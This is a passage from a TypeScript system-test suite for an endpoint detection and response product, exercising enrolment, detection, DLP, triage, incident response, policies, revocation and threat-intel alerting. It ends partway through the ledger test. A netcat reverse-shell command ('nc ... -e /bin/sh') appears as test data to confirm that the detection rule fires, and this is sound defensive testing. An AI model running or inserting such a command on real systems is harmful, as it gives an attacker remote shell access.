// # System behaviour suite: one suite, two deployments (issue 19, item 2)
//
// The same scenarios, through the public interfaces only (the REST API with an admin credential, and agents
// that enrol with a token and stream over mutual-TLS gRPC), against each deployment of test/system/deployments.ts:
// - embedded: `vigil up --no-agent` as a child process;
// - distributed: `vigil ingest`, `vigil worker` and `vigil api` as separate processes on the real NATS JetStream
//   (127.0.0.1:4222), PostgreSQL (127.0.0.1:5432, a database of its own, dropped after) and the ClickHouse HTTP
//   fixture.
// Agents are simulated (src/agent/simulator.ts enrols them and makes their events; test/system/agent.ts holds
// their stream, keeps what the server sends down it and answers as an agent does). Each scenario enrols its own
// agent, i.e. its own host, so scenarios do not see each other's events, alerts or incidents.
//
// Scenarios: enrol; a batch (sent twice) is stored once per event (GET /events); detection (a netcat reverse
// shell raises the built-in alert with the rule's author, the process and its ancestors); alert triage
// (acknowledge, close with a disposition, bulk); incidents formed from a process lineage; response (a command
// reaches the agent's stream and its result is recorded; expiry, per command and the deployment's configured
// default; two-person approval of isolation; both deployments are asked for the same settings, SETTINGS in
// deployments.ts); policies (a new version to the connected agent, the latest to an agent when it connects, the
// acknowledgement recorded); revocation (cuts the agent's stream at once, refuses its reconnection); the ledger
// (records the calls with their actor, POST /ledger/verify); alert delivery (a webhook and a syslog TCP sink made
// through the API receive the alert once through the outbox, a failing receiver retried, status per alert).
//
// A scenario only one deployment passes is a failing test, except where a deployment declares the scenario a
// known gap (`gaps` in deployments.ts, stated as `issue 19: <exact gap>`): that case is `todo` for that
// deployment only, and runs (and is reported) without failing the run.
//
// Run (needs NATS on 127.0.0.1:4222 and PostgreSQL on 127.0.0.1:5432; `npx node` is the project's Node 24; node
// --test takes files or globs, not a bare directory):
//   npx node --test 'test/system/*.test.ts'
//   npx node --test --test-name-pattern '^embedded' 'test/system/*.test.ts'      # one deployment
// The deployments run one after the other, about 15 s each (31 s in all) on two shared cores; a case that fails
// or is todo waits out its own timeout (5-20 s). `npm test` runs it with everything else.

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { createServer as createTcpServer, type AddressInfo, type Socket } from 'node:net';
import { scenarioEvents, SCENARIO_RULE_TITLES } from '../incidents/scenario.ts';
import type { VigilEvent } from '../../src/schema/event.ts';
import type { SystemAgent } from './agent.ts';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { Agent } from '../../src/agent/agent.ts';
import type { Observation, Sensor } from '../../src/agent/sensor.ts';
import { syntheticCsv, syntheticRow } from '../fixtures/dlp/synthetic.ts';
import { DEPLOYMENTS, SETTINGS, type Deployment } from './deployments.ts';

const NETCAT = { executable: '/usr/bin/nc', args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] };
const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001'; // rules/builtin/lnx_netcat_reverse_shell.yml
const PASSWORD = 'system suite: correct horse battery staple';

/** A sensor that reports the files the test writes (the /proc sensor does not see writes). */
class WriteSensor implements Sensor {
  readonly mode = 'proc' as const;
  private sink: ((o: Observation) => void) | undefined;
  async start(emit: (o: Observation) => void): Promise<void> { this.sink = emit; }
  async stop(): Promise<void> { this.sink = undefined; }
  health() { return { mode: 'proc' as const, drops: 0, restarts: 0 }; }
  write(path: string): void { this.sink?.({ type: 'file_write', timeMs: Date.now(), pid: 4343, uid: 0, comm: 'rsync', path }); }
}

async function until<T>(what: string, probe: () => Promise<T | undefined | false>, timeoutMs = 30_000): Promise<T> {
  let last: unknown;
  for (const end = Date.now() + timeoutMs; Date.now() < end; await new Promise((r) => setTimeout(r, 100))) {
    try {
      const v = await probe();
      if (v) return v;
    } catch (err) {
      last = err;
    }
  }
  throw new Error(`timed out waiting for ${what}${last ? ` (last error: ${(last as Error).message})` : ''}`);
}

/** The scenario's events (test/incidents/scenario.ts) on `agent`'s host, tagged so each run is its own processes. */
function lineage(agent: SystemAgent, tag: string): VigilEvent[] {
  return scenarioEvents(() => agent.events(1)[0], Date.now() - 60_000, tag);
}

async function alertsOf(d: Deployment, agent: SystemAgent, query = ''): Promise<any[]> {
  const r = await d.api('GET', `/alerts?host=${agent.id}&limit=1000${query}`);
  assert.equal(r.status, 200, JSON.stringify(r.body));
  return r.body.alerts;
}

async function actionReaches(d: Deployment, id: string, statuses: string[], timeoutMs = 20_000): Promise<any> {
  return until(`action ${id} to be ${statuses.join('|')}`, async () => {
    const r = await d.api('GET', `/ir/actions/${id}`);
    return statuses.includes(r.body.status) ? r.body : undefined;
  }, timeoutMs);
}

for (const kind of DEPLOYMENTS) {
  describe(kind.name, { timeout: 600_000 }, () => {
    let d: Deployment;
    /** This deployment's options for scenario `key`: todo with the stated gap where it declares one. */
    const scenario = (key: string) => ({ timeout: 90_000, ...(kind.gaps[key] ? { todo: kind.gaps[key] } : {}) });

    before(async () => { d = await kind.start(); }, { timeout: 180_000 });
    after(async () => { await d?.stop(); }, { timeout: 60_000 });

    test('enrol: an agent enrols with a token from the API, is listed with its certificate and streams', scenario('enrol'), async () => {
      const agent = await d.enrol('sys-enrol');
      const listed = (await d.api('GET', `/agents/${agent.id}`));
      assert.equal(listed.status, 200, JSON.stringify(listed.body));
      assert.equal(listed.body.id, agent.id);
      assert.equal(listed.body.certificate.revoked, false);
      const ack = await agent.send(agent.events(1));
      assert.equal(ack.accepted, 1);
      const hosts = await d.api('GET', '/hosts');
      assert.ok(hosts.body.hosts.some((h: any) => h.id === agent.id && h.hostname === 'sys-enrol'), JSON.stringify(hosts.body));
    });

    test('events: a batch, sent twice, is acknowledged and every event is stored once (GET /events)', scenario('events'), async () => {
      const agent = await d.enrol('sys-events');
      const batch = agent.events(50);
      assert.deepEqual((await agent.send(batch)).accepted, 50);
      assert.deepEqual((await agent.send(batch)).accepted, 50, 'a re-sent batch (an agent that lost the ack) is acknowledged again');
      const ids = new Set(batch.map((e) => e.event.id));
      const stored = await until('the 50 events stored', async () => {
        const r = await d.api('GET', `/events?host=${agent.id}&limit=1000`);
        return r.status === 200 && r.body.events.length >= 50 ? r.body.events : undefined;
      });
      await new Promise((r) => setTimeout(r, 1500)); // time for a second copy to show, were it stored
      const again = (await d.api('GET', `/events?host=${agent.id}&limit=1000`)).body.events;
      assert.equal(again.length, 50, 'each event once');
      assert.deepEqual(new Set(again.map((e: any) => e.event.id)), ids);
      assert.ok(stored.every((e: any) => e.agent.id === agent.id && e.agent.tenant_id === 'default'), 'identity from the certificate');
    });

    test('detect: a netcat reverse shell raises the built-in alert with the rule\'s author, the process and its ancestors', scenario('detect'), async () => {
      const agent = await d.enrol('sys-detect');
      const events = lineage(agent, 'detect');
      const chain = [0, 1, 2, 6].map((i) => events[i]); // sshd listener → sshd session → bash → nc
      assert.equal(chain[3].process!.executable, '/usr/bin/nc');
      assert.equal((await agent.send(chain)).accepted, 4);
      const [alert] = await until('the netcat alert', async () => {
        const a = await alertsOf(d, agent, `&rule=${NETCAT_RULE}`);
        return a.length ? a : undefined;
      });
      assert.equal(alert.rule.id, NETCAT_RULE);
      assert.equal(alert.rule.title, SCENARIO_RULE_TITLES.netcat);
      assert.equal(alert.severity, 'high');
      assert.equal(alert.status, 'open');
      assert.ok(typeof alert.rule.author === 'string' && alert.rule.author.length > 0, `author: ${JSON.stringify(alert.rule)}`);
      assert.equal(alert.host_id, agent.id);
      assert.equal(alert.process?.executable, '/usr/bin/nc');
      assert.equal(alert.process?.entity_id, chain[3].process!.entity_id);
      assert.deepEqual(alert.ancestors?.map((p: any) => p.executable), ['/usr/sbin/sshd', '/usr/sbin/sshd', '/bin/bash'], JSON.stringify(alert.ancestors));
    });

    test('dlp: a DLP policy reaches the agent and is acknowledged; its finding is stored with masked excerpts and raises the DLP alert; a data set is fingerprinted, listed and deleted', scenario('dlp'), async () => {
      const agent = await d.enrol('sys-dlp');
      const name = 'dlp-system';
      const put = await d.api('PUT', `/policies/${name}`, { document: { dlp: { paths: ['/srv/share'], detectors: ['payment_card'], action: 'alert', severity: 'critical' } } });
      assert.equal(put.status, 200, JSON.stringify(put.body));
      const pushed = await agent.waitFor(`policy ${name}`, (m) => (m.body === 'policy' && m.policy.name === name ? m.policy : undefined), 10_000);
      assert.equal(JSON.parse(pushed.document_json).dlp.severity, 'critical');
      agent.ackPolicy({ name, version: put.body.version });
      await until('the DLP policy acknowledged', async () => (await d.api('GET', `/policies/${name}/acks`)).body.agents?.some((a: any) => a.agent_id === agent.id && a.current));
      const [base] = agent.events(1);
      const finding: VigilEvent = {
        ...base, event: { ...base.event, type: 'file_write', category: 'file', action: 'dlp_match' }, file: { path: '/srv/share/export.csv' },
        dlp: { policy: name, rule: 'payment_card', kind: 'detector', matches: 3, confidence: 95, excerpts: ['4539********1486', '5425********9903'], bytes_scanned: 106, action: 'alert', severity: 'critical' },
        threat: { mitre: ['T1567'] },
      };
      assert.equal((await agent.send([finding])).accepted, 1);
      const [alert] = await until('the DLP alert', async () => {
        const a = (await alertsOf(d, agent)).filter((x) => x.rule.title.startsWith('DLP Finding'));
        return a.length ? a : undefined;
      });
      assert.equal(alert.rule.title, 'DLP Finding (Exfiltration Over Web Service, critical)');
      assert.equal(alert.severity, 'critical');
      assert.deepEqual(alert.techniques.map((t: any) => t.id), ['T1567']);
      const stored = await until('the finding stored', async () => (await d.api('GET', `/events?host=${agent.id}&file=${encodeURIComponent('/srv/share/export.csv')}`)).body.events?.[0]);
      assert.deepEqual(stored.dlp, finding.dlp);
      // A protected data set: fingerprinted by the API process, kept as fingerprints, listed, deleted.
      const csv = `name,card\n${['Anna Smith,4539578763621486', 'Ben Jones,5425233430109903'].join('\n')}\n`;
      const up = await d.api('POST', '/dlp/datasets', { name: `sys-${Date.now()}`, columns: [{ name: 'name', type: 'name' }, { name: 'card', type: 'card' }], csv });
      assert.equal(up.status, 201, JSON.stringify(up.body));
      assert.equal(up.body.fingerprints, 4);
      assert.ok((await d.api('GET', '/dlp/datasets')).body.datasets.some((x: any) => x.id === up.body.id));
      assert.equal((await d.api('DELETE', `/dlp/datasets/${up.body.id}`)).status, 204);
    });

    test('dlp delivery: a data set named by a policy reaches the real agent by version and is acknowledged loaded; 3 of its rows in a written file give a finding naming 3 matches and no value; deleted, the agent drops it', scenario('dlp'), async () => {
      const setName = `sys-customers-${Date.now()}`;
      const up = await d.api('POST', '/dlp/datasets', { name: setName, columns: [{ name: 'name', type: 'name' }, { name: 'email', type: 'email' }, { name: 'ssn', type: 'digits' }, { name: 'card', type: 'card' }], csv: syntheticCsv(5000, 3) });
      assert.equal(up.status, 201, JSON.stringify(up.body));
      const share = mkdtempSync(join(tmpdir(), 'vigil-sys-dlp-'));
      const name = `dlp-edm-${Date.now()}`;
      assert.equal((await d.api('PUT', `/policies/${name}`, { document: { dlp: { paths: [share], datasets: [setName], detectors: ['iban'], action: 'record' } } })).status, 200);
      const token = await d.api('POST', '/enrollment-tokens', { ttl_seconds: 600, max_uses: 1 });
      const sensor = new WriteSensor();
      const agent = new Agent({ dataDir: join(share, '.agent'), server: token.body.agent_endpoint, caPem: token.body.ca_pem, enrollmentToken: token.body.token, sensor, log: pino({ level: 'silent' }), batchIntervalMs: 100 });
      try {
        await agent.start();
        await until('the policy acknowledged with its data set loaded', async () => (await d.api('GET', `/policies/${name}/acks`)).body.agents?.some((a: any) => a.agent_id === agent.agentId && a.current));
        const [version] = agent.dlp.datasets.versions;
        assert.equal(agent.dlp.datasets.set(version!)?.size, 20_000);
        const rows = [syntheticRow(11, 3), syntheticRow(2222, 3), syntheticRow(4999, 3)];
        const file = join(share, 'out.csv');
        writeFileSync(file, `${rows.map((r) => r.join(';')).join('\n')}\n`);
        sensor.write(file);
        const finding = await until('the EDM finding', async () => (await d.api('GET', `/events?host=${agent.agentId}&file=${encodeURIComponent(file)}`)).body.events?.find((e: any) => e.dlp?.kind === 'dataset'));
        assert.deepEqual([finding.dlp.rule, finding.dlp.matches, finding.dlp.cells], [setName, 3, 12]);
        for (const v of rows.flat()) assert.ok(!JSON.stringify(finding).includes(v), `${v} in the finding`);
        // Deleted: the policy goes again without it; the agent drops the set.
        assert.equal((await d.api('DELETE', `/dlp/datasets/${up.body.id}`)).status, 204);
        await until('the set dropped', async () => agent.dlp.datasets.set(version!) === undefined);
      } finally {
        await agent.stop();
        rmSync(share, { recursive: true, force: true });
      }
    });

    test('triage: acknowledge, close with a disposition, and bulk changes by ids and by filter', scenario('triage'), async () => {
      const agent = await d.enrol('sys-triage');
      assert.equal((await agent.send(agent.events(4, NETCAT))).accepted, 4);
      const alerts = await until('four netcat alerts', async () => {
        const a = await alertsOf(d, agent);
        return a.length === 4 ? a : undefined;
      });
      const [a, b, c, e] = alerts.map((x: any) => x.id);
      const acked = await d.api('POST', `/alerts/${a}/acknowledge`, {});
      assert.equal(acked.status, 200, JSON.stringify(acked.body));
      assert.equal(acked.body.status, 'acknowledged');
      const closed = await d.api('POST', `/alerts/${b}/close`, { disposition: 'true_positive', reason: 'system suite: confirmed shell' });
      assert.equal(closed.status, 200, JSON.stringify(closed.body));
      assert.deepEqual([closed.body.status, closed.body.disposition], ['closed', 'true_positive']);

      const bulkIds = await d.api('POST', '/alerts/bulk', { ids: [c], action: 'acknowledge' });
      assert.equal(bulkIds.status, 200, JSON.stringify(bulkIds.body));
      assert.deepEqual([bulkIds.body.matched, bulkIds.body.changed], [1, 1]);
      const bulkFilter = await d.api('POST', '/alerts/bulk', {
        filter: { host: agent.id, status: ['open', 'acknowledged'] }, action: 'close', disposition: 'benign', reason: 'system suite: lab host',
      });
      assert.equal(bulkFilter.status, 200, JSON.stringify(bulkFilter.body));
      assert.deepEqual([bulkFilter.body.matched, bulkFilter.body.changed], [3, 3], JSON.stringify(bulkFilter.body));
      const after = new Map((await alertsOf(d, agent)).map((x: any) => [x.id, [x.status, x.disposition]]));
      assert.deepEqual(Object.fromEntries(after), {
        [a]: ['closed', 'benign'], [b]: ['closed', 'true_positive'], [c]: ['closed', 'benign'], [e]: ['closed', 'benign'],
      });
      assert.equal((await alertsOf(d, agent, '&status=open')).length, 0);
    });

    test('incidents: alerts of one process lineage form one incident, an unrelated session another', scenario('incidents'), async () => {
      const agent = await d.enrol('sys-incidents');
      const events = lineage(agent, 'incident');
      assert.equal((await agent.send(events)).accepted, events.length);
      const listed = await until('two incidents holding four alerts', async () => {
        const r = await d.api('GET', `/incidents?host=${agent.id}`);
        return r.status === 200 && r.body.incidents.length === 2 && r.body.incidents.reduce((n: number, i: any) => n + i.alert_count, 0) === 4 ? r.body : undefined;
      }, 45_000);
      const attack = listed.incidents.find((i: any) => i.alert_count === 3);
      const admin = listed.incidents.find((i: any) => i.alert_count === 1);
      assert.ok(attack && admin, JSON.stringify(listed));
      assert.deepEqual([attack.severity, admin.severity], ['high', 'low']);
      const detail = (await d.api('GET', `/incidents/${attack.id}`)).body;
      assert.deepEqual(detail.alerts.map((x: any) => x.rule.title).sort(), [SCENARIO_RULE_TITLES.chmod, SCENARIO_RULE_TITLES.curl, SCENARIO_RULE_TITLES.netcat].sort());
      const closed = await d.api('POST', `/incidents/${admin.id}/close`, { disposition: 'benign', reason: 'system suite: the admin checking who they are' });
      assert.equal(closed.status, 200, JSON.stringify(closed.body));
      assert.deepEqual((await d.api('GET', `/incidents?host=${agent.id}&status=open`)).body.incidents.map((i: any) => i.id), [attack.id]);
    });

    test('respond: a command reaches the agent\'s stream, and the agent\'s result is recorded', scenario('respond'), async () => {
      const agent = await d.enrol('sys-respond');
      const r = await d.api('POST', `/hosts/${agent.id}/list-processes`, { limit: 5 });
      assert.equal(r.status, 202, JSON.stringify(r.body));
      const cmd = await agent.waitFor('the list_processes command', (m) => (m.body === 'command' && m.command.id === r.body.id ? m.command : undefined));
      assert.equal(cmd.action, 'list_processes');
      assert.deepEqual(JSON.parse(cmd.params_json ?? '{}').limit, 5);
      await actionReaches(d, r.body.id, ['delivered']);
      agent.reply({ id: cmd.id, status: 'running' });
      agent.reply({ id: cmd.id, status: 'succeeded', result_json: JSON.stringify({ processes: [{ pid: 1, executable: '/sbin/init' }] }) });
      const done = await actionReaches(d, r.body.id, ['succeeded', 'failed']);
      assert.equal(done.status, 'succeeded', done.error);
      assert.deepEqual(done.result, { processes: [{ pid: 1, executable: '/sbin/init' }] });
      assert.equal(done.host_id, agent.id);
    });

    test('respond: a command the agent does not finish in time expires', scenario('expiry'), async () => {
      const agent = await d.enrol('sys-expiry');
      const r = await d.api('POST', `/hosts/${agent.id}/list-processes`, { expires_in_s: 2 });
      assert.equal(r.status, 202, JSON.stringify(r.body));
      assert.ok(Date.parse(r.body.expires_at) - Date.parse(r.body.requested_at) <= 2000, JSON.stringify(r.body));
      const cmd = await agent.waitFor('the command', (m) => (m.body === 'command' && m.command.id === r.body.id ? m.command : undefined));
      assert.ok(cmd.expires_at, 'the agent is told the deadline');
      const expired = await actionReaches(d, r.body.id, ['expired', 'succeeded', 'failed'], 15_000);
      assert.equal(expired.status, 'expired');
      agent.reply({ id: cmd.id, status: 'succeeded', result_json: '{}' }); // too late: the expiry stands
      await new Promise((res) => setTimeout(res, 1000));
      assert.equal((await d.api('GET', `/ir/actions/${r.body.id}`)).body.status, 'expired');
    });

    test('respond: a command without its own deadline gets the deployment\'s configured expiry', scenario('expiry-default'), async () => {
      const agent = await d.enrol('sys-expiry-default');
      const r = await d.api('POST', `/hosts/${agent.id}/list-processes`, {});
      assert.equal(r.status, 202, JSON.stringify(r.body));
      assert.equal(Date.parse(r.body.expires_at) - Date.parse(r.body.requested_at), SETTINGS.irExpiryS * 1000, JSON.stringify(r.body));
      const cmd = await agent.waitFor('the command', (m) => (m.body === 'command' && m.command.id === r.body.id ? m.command : undefined));
      assert.equal(cmd.expires_at, r.body.expires_at);
    });

    test('respond: isolation waits for a second person\'s approval (two-person rule configured)', scenario('two-person'), async () => {
      const agent = await d.enrol('sys-isolate');
      const r = await d.api('POST', `/hosts/${agent.id}/isolate`, { reason: 'system suite: contain the host' });
      assert.equal(r.status, 202, JSON.stringify(r.body));
      assert.equal(r.body.status, 'awaiting_approval');
      await new Promise((res) => setTimeout(res, 1000));
      assert.ok(!agent.commands().some((c) => c.id === r.body.id), 'not sent before approval');
      const self = await d.api('POST', `/ir/actions/${r.body.id}/approve`);
      assert.equal(self.status, 409, 'the requester cannot approve');

      const email = `responder-${agent.id.slice(0, 8)}@system.test`;
      const user = await d.api('POST', '/users', { email, password: PASSWORD, role: 'responder' });
      assert.equal(user.status, 201, JSON.stringify(user.body));
      const login = await fetch(`${d.apiUrl}/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email, password: PASSWORD }) });
      assert.equal(login.status, 200);
      const token = ((await login.json()) as { access_token: string }).access_token;
      const approved = await d.api('POST', `/ir/actions/${r.body.id}/approve`, undefined, token);
      assert.equal(approved.status, 200, JSON.stringify(approved.body));
      const cmd = await agent.waitFor('the isolate command', (m) => (m.body === 'command' && m.command.id === r.body.id ? m.command : undefined));
      assert.equal(cmd.action, 'isolate');
      agent.reply({ id: cmd.id, status: 'succeeded', result_json: JSON.stringify({ isolated: true }) });
      const done = await actionReaches(d, r.body.id, ['succeeded', 'failed']);
      assert.equal(done.status, 'succeeded');
      assert.ok(done.approved_by, 'the approver is recorded');
      assert.notEqual(done.approved_by, done.requested_by);
    });

    describe('policy', () => {
      const name = `sys${Date.now().toString(36)}`;
      let agent: SystemAgent;
      let version: number;
      before(async () => {
        agent = await d.enrol('sys-policy');
        const put = await d.api('PUT', `/policies/${name}`, { document: { heartbeat_ms: 7000 } });
        assert.equal(put.status, 200, JSON.stringify(put.body));
        version = put.body.version;
      });

      test('a new version goes down the connected agent\'s stream at once', scenario('policy-push'), async () => {
        const policy = await agent.waitFor(`policy ${name} v${version}`, (m) => (m.body === 'policy' && m.policy.name === name && m.policy.version === version ? m.policy : undefined), 10_000);
        assert.deepEqual(JSON.parse(policy.document_json), { heartbeat_ms: 7000 });
      });

      test('an agent whose stream opens later gets the latest version', scenario('policy-on-connect'), async () => {
        const late = await d.enrol('sys-policy-late');
        const policy = await late.waitFor(`policy ${name} on connect`, (m) => (m.body === 'policy' && m.policy.name === name ? m.policy : undefined), 10_000);
        assert.equal(policy.version, version);
      });

      test('the agent\'s acknowledgement is recorded (GET /policies/{name}/acks)', scenario('policy-ack'), async () => {
        agent.ackPolicy({ name, version });
        const acks = await until('the acknowledgement recorded', async () => {
          const r = await d.api('GET', `/policies/${name}/acks`);
          return r.body.agents?.some((a: any) => a.agent_id === agent.id && a.version === version) ? r.body : undefined;
        }, 10_000);
        assert.equal(acks.agents.find((a: any) => a.agent_id === agent.id).current, true);
      });
    });

    describe('revocation', () => {
      let agent: SystemAgent;
      before(async () => { agent = await d.enrol('sys-revoke'); await agent.send(agent.events(1)); });

      test('revoking an agent cuts its open stream at once', scenario('revocation-cut'), async () => {
        const r = await d.api('POST', `/agents/${agent.id}/revoke`);
        assert.equal(r.status, 200, JSON.stringify(r.body));
        const ended = await agent.waitEnded(5000);
        assert.equal((ended as { code?: number }).code, 16, `UNAUTHENTICATED: ${ended.message}`);
        assert.equal((await d.api('GET', `/agents/${agent.id}`)).body.certificate.revoked, true);
      });

      test('a revoked agent\'s reconnection is refused', scenario('revocation-refuse'), async () => {
        if (!(await d.api('GET', `/agents/${agent.id}`)).body.certificate.revoked) assert.equal((await d.api('POST', `/agents/${agent.id}/revoke`)).status, 200);
        agent.close();
        agent.connect();
        const ended = await agent.waitEnded(10_000);
        assert.equal((ended as { code?: number }).code, 16, ended.message);
        assert.match(ended.message, /revoked/);
        await assert.rejects(agent.send(agent.events(1)));
      });
    });

    test('intel: a list uploaded through the API (counted, listed), a connection to its loopback address alerts naming indicator, list and confidence', scenario('intel'), async () => {
      const agent = await d.enrol('sys-intel');
      const name = `sys intel ${crypto.randomUUID()}`;
      const created = await d.api('POST', '/intel/lists', { name, format: 'csv', content: 'value,type,confidence\n127.0.0.66,ip,90\nc2.sys-intel.example,domain,60\nnot an indicator!,,\n' });
      assert.equal(created.status, 201, JSON.stringify(created.body));
      assert.deepEqual([created.body.indicators, created.body.rejected, created.body.source], [2, 1, 'upload']);
      const listed = await d.api('GET', '/intel/lists');
      assert.ok(listed.body.lists.some((l: any) => l.id === created.body.id && l.indicators === 2 && l.last_load_at), JSON.stringify(listed.body));
      assert.equal((await d.api('POST', '/intel/lists', { name, format: 'stix', content: '{"type":"bundle"}' })).status, 400, 'not a STIX bundle');
      const send = async (destination: string) => {
        const [ev] = agent.events(1);
        Object.assign(ev.event, { type: 'network_connection', category: 'network' });
        Object.assign(ev, { destination: { ip: destination, port: 4444 }, source: { ip: '127.0.0.1', port: 40000 }, network: { transport: 'tcp', type: 'ipv4', direction: 'outbound' } });
        assert.equal((await agent.send([ev])).accepted, 1);
        return ev;
      };
      // The workers load the new list within seconds (hot reload): send until the alert shows.
      const alert = await until('the intel alert', async () => {
        await send('127.0.0.66');
        return (await alertsOf(d, agent)).find((a) => a.rule.id === `intel:${created.body.id}`);
      }, 40_000);
      assert.equal(alert.group_by.indicator, '127.0.0.66');
      assert.equal(alert.group_by.list, name);
      assert.equal(alert.group_by.confidence, '90');
      assert.equal(alert.group_by.field, 'destination.ip');
      assert.equal(alert.severity, 'high');
      assert.equal(alert.host_id, agent.id);
      // A DNS answer for a subdomain of a listed domain alerts too (ECS dns.question.name).
      const [dns] = agent.events(1);
      Object.assign(dns.event, { type: 'dns', category: 'network' });
      Object.assign(dns, { dns: { type: 'answer', question: { name: 'www.c2.sys-intel.example', type: 'A' }, resolved_ip: ['192.0.2.10'] }, destination: { ip: '127.0.0.53', port: 53 } });
      assert.equal((await agent.send([dns])).accepted, 1);
      const dnsAlert = await until('the DNS intel alert', async () => (await alertsOf(d, agent)).find((a) => a.group_by?.field === 'dns.question.name'));
      assert.deepEqual([dnsAlert.group_by.indicator, dnsAlert.group_by.observed, dnsAlert.group_by.confidence, dnsAlert.severity], ['c2.sys-intel.example', 'www.c2.sys-intel.example', '60', 'medium']);
      await send('127.0.0.67');
      const removed = await d.api('DELETE', `/intel/lists/${created.body.id}`);
      assert.equal(removed.status, 204);
      assert.equal((await d.api('GET', `/intel/lists/${created.body.id}`)).status, 404);
      assert.ok((await alertsOf(d, agent)).every((a) => a.group_by?.indicator !== '127.0.0.67'), 'an address not listed does not alert');
    });

    test('enrichment: a process_hash event puts the digests on the stored process, a dns event and container fields are stored and hunted', scenario('enrichment'), async () => {
      const agent = await d.enrol('sys-enrich');
      const [start, hashed, dns] = agent.events(3);
      const sha256 = crypto.randomUUID().replaceAll('-', '').repeat(2);
      const hash = { sha256, sha1: 'a'.repeat(40), md5: 'b'.repeat(32) };
      const file = { size: 39760, inode: '2146571', device: '65024', mtime: '2026-12-01T10:00:00.000Z' };
      const container = { cgroup_id: '4242', id: 'c'.repeat(64), runtime: 'containerd' };
      const orchestrator = { type: 'kubernetes', namespace: 'prod', resource: { type: 'pod', name: 'web-0', id: crypto.randomUUID() } };
      Object.assign(start.process!, { executable: '/tmp/sys-enrich', file });
      Object.assign(start, { container, orchestrator });
      Object.assign(hashed.event, { type: 'process_hash', category: 'process', action: 'hash' });
      hashed.process = { ...start.process!, hash, file };
      const name = `sys-enrich-${crypto.randomUUID()}.example`;
      Object.assign(dns.event, { type: 'dns', category: 'network', action: 'answer' });
      Object.assign(dns, {
        process: start.process, source: { ip: '127.0.0.1', port: 40000 }, destination: { ip: '127.0.0.53', port: 53 }, network: { transport: 'udp', type: 'ipv4', direction: 'outbound' },
        dns: { type: 'answer', id: '7', response_code: 'NOERROR', question: { name, type: 'A' }, answers: [{ name, type: 'A', ttl: 60, data: '192.0.2.8' }], resolved_ip: ['192.0.2.8'] },
      });
      assert.equal((await agent.send([start, hashed, dns])).accepted, 3);
      const entity = start.process!.entity_id!;
      const stored = await until('the hashed process', async () => {
        const r = await d.api('GET', `/hosts/${agent.id}/processes/${entity}`);
        return r.status === 200 && r.body.process.hash ? r.body : undefined;
      });
      assert.deepEqual([stored.process.hash, stored.process.file, stored.process.container, stored.process.orchestrator], [hash, file, container, orchestrator]);
      assert.deepEqual(stored.exec_chain.map((x: any) => x.hash?.sha256), [sha256]);
      const bySha = await d.api('GET', `/events?host=${agent.id}&hash=${sha256}&limit=100`);
      assert.deepEqual(new Set(bySha.body.events.map((e: any) => e.event.id)), new Set([start, hashed, dns].map((e) => e.event.id)), 'every event of the process with that image');
      const dnsEvents = await until('the dns event', async () => {
        const r = await d.api('GET', `/events?host=${agent.id}&type=dns&limit=10`);
        return r.body.events?.length ? r.body.events : undefined;
      });
      assert.deepEqual(dnsEvents[0].dns.resolved_ip, ['192.0.2.8']);
      const hunt = await d.api('POST', '/hunt', { sql: `SELECT dns_question_name AS q, process_hash_sha256 AS h, container_id AS c, event_type AS t FROM telemetry_events WHERE host_id = '${agent.id}' ORDER BY t` });
      assert.equal(hunt.status, 200, JSON.stringify(hunt.body));
      assert.deepEqual(hunt.body.rows, [[name, '', '', 'dns'], ['', sha256, '', 'process_hash'], ['', '', container.id, 'process_start']]);
    });

    test('ai-usage: a process resolving and connecting to a generative-AI service is recorded per host, user and service; the alert policy alerts', scenario('ai-usage'), async () => {
      const agent = await d.enrol('sys-ai');
      assert.equal((await d.api('PUT', '/ai-usage/policy', { policy: 'alert' })).status, 200);
      try {
        const [resolve, connect] = agent.events(2);
        Object.assign(resolve.event, { type: 'dns', category: 'network' });
        Object.assign(resolve, { dns: { type: 'answer', question: { name: 'chatgpt.com', type: 'A' }, resolved_ip: ['192.0.2.77'] }, destination: { ip: '127.0.0.53', port: 53 } });
        Object.assign(connect.event, { type: 'network_connection', category: 'network' });
        Object.assign(connect, { process: resolve.process, user: resolve.user, destination: { ip: '192.0.2.77', port: 443 }, source: { ip: '127.0.0.1', port: 41000 } }); // the process that resolved it
        assert.equal((await agent.send([resolve])).accepted, 1);
        assert.equal((await agent.send([connect])).accepted, 1);
        const row = await until('the usage row', async () => {
          const r = await d.api('GET', '/ai-usage');
          assert.equal(r.status, 200, JSON.stringify(r.body));
          return r.body.usage.find((u: any) => u.host_id === agent.id && u.service === 'openai' && u.connections >= 1 && u.resolutions >= 1);
        });
        assert.equal(row.hostname, 'sys-ai');
        assert.equal(row.service_name, 'OpenAI (ChatGPT, API)');
        assert.equal(row.executable, resolve.process!.executable);
        assert.equal(row.user, resolve.user?.name ?? resolve.user?.id ?? '');
        const alert = await until('the AI-usage alert', async () => (await alertsOf(d, agent)).find((a) => a.rule.id === 'ai-usage:openai'));
        assert.equal(alert.group_by.service, 'openai');
      } finally {
        assert.equal((await d.api('PUT', '/ai-usage/policy', { policy: 'record' })).status, 200);
      }
    });

    test('ledger: the calls are recorded with their actor, and the ledger verifies', scenario('ledger'), async () => {
      const agent = await d.enrol('sys-ledger');
      const r = await d.api('POST', `/hosts/${agent.id}/list-processes`, {});
      const cmd = await agent.waitFor('the command', (m) => (m.body === 'command' && m.command.id === r.body.id ? m.command : undefined));
      agent.reply({ id: cmd.id, status: 'succeeded', result_json: '{"processes":[]}' });
      await actionReaches(d, r.body.id, ['succeeded']);
      const revoked = await d.api('POST', `/agents/${agent.id}/revoke`);
      assert.equal(revoked.status, 200);
      const entries = await until('the entries', async () => {
        const all: any[] = [];
        for (let from: number | null = 0; from !== null;) {
          const page = await d.api('GET', `/ledger/entries?from=${from}&limit=1000`);
          assert.equal(page.status, 200, JSON.stringify(page.body));
          all.push(...page.body.entries);
          from = page.body.next;
        }
        const mine = all.filter((e) => JSON.stringify(e).includes(r.body.id) || JSON.stringify(e).includes(agent.id));
        return mine.some((e) => e.action === 'ir.succeeded') ? mine : undefined;
      });
      const actions = entries.map((e: any) => e.action);
